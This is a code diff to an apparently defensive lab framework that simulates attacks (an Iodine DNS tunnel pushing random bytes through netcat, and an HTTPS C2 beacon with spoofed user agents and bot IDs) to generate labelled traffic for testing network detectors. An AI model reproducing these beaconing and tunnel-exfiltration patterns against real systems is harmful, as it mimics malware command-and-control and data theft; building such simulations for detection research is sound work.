@@ -514,10 +514,13 @@ class Iodine(Attack):
         if up:
             srv = "10.213.9.1"
             check_target(srv)
-            sink = ctx.lab.spawn(tun, ["sh", "-c", f"nc -l -q 1 {srv} 5555 > /dev/null"], secs)
+            # The sink reads until the client's FIN (-d: no stdin, which would make it quit
+            # early) and the client waits for the sink to close (-N), so the whole transfer
+            # crosses the tunnel before it is torn down.
+            sink = ctx.lab.spawn(tun, ["sh", "-c", f"nc -l -d {srv} 5555 > /dev/null"], secs)
             self.sh(ctx, ["ping", "-c", "10", "-i", "0.5", srv], 15)
             size = self.params.get("bytes", 60000)
-            rc = self.sh(ctx, ["sh", "-c", f"head -c {size} /dev/urandom | nc -q 1 {srv} 5555"],
+            rc = self.sh(ctx, ["sh", "-c", f"head -c {size} /dev/urandom | nc -N {srv} 5555"],
                          max(10, secs - 12))
             ctx.lab.stop(sink, wait=3)
             time.sleep(ctx.rng.uniform(1, 4))
@@ -557,9 +560,12 @@ class Beacon(Attack):
 
 class TlsBeacon(Attack):
     """C2 beacon over HTTPS: a new TLS connection (curl, HTTP/2 or HTTP/1.1) for every
-    check-in, every 2-4 s, a bounded count; SNI and Host are a C2 domain name pinned with
-    ``--resolve`` (no DNS lookup). The C2 host's nginx terminates TLS in front of the C2
-    server. Now and then a check-in POSTs a small result."""
+    check-in, every 2-4 s, a bounded count; SNI and Host are a C2 domain name, pinned with
+    ``--resolve`` (no DNS lookup) or, with ``lookup``, resolved through the lab DNS before
+    every check-in as malware on a client does (the DNS flows match no rule: on a hidden
+    beacon they stay benign, as in ``test-cc-capture-2.pcap``'s ground truth). The C2 host's
+    nginx terminates TLS in front of the C2 server. Now and then a check-in POSTs a small
+    result."""
 
     family, tool = "botnet", "c2-beacon-tls"
 
@@ -579,8 +585,9 @@ class TlsBeacon(Attack):
         bot = rng.randrange(1 << 24)
         ua = rng.choice(["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Go-http-client/1.1",
                          "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)"])
+        lookup = bool(self.params.get("lookup"))
         common = ["curl", "-s", "-k", "-o", "/dev/null", "-m", "6", http, *self.local_port(),
-                  "-A", ua, "--resolve", f"{name}:443:{c2}"]
+                  "-A", ua, *([] if lookup else ["--resolve", f"{name}:443:{c2}"])]
         end = time.time() + self.params.get("seconds", n * hi + 30)
         sent = 0
         for i in range(n):
@@ -595,8 +602,8 @@ class TlsBeacon(Attack):
                 self.sh(ctx, [*common, f"https://{name}{path}?id={bot:x}&seq={i}"], 10)
             sent += 1
             time.sleep(rng.uniform(lo, hi))
-        return f"curl -k --resolve {name}:443:{c2} https://{name}{path} x{sent} every " \
-               f"{lo:.0f}-{hi:.0f} s", 0
+        how = "(DNS lookup)" if lookup else f"--resolve {name}:443:{c2}"
+        return f"curl -k {how} https://{name}{path} x{sent} every {lo:.0f}-{hi:.0f} s", 0
 
 
 class PostCheckin(Attack):
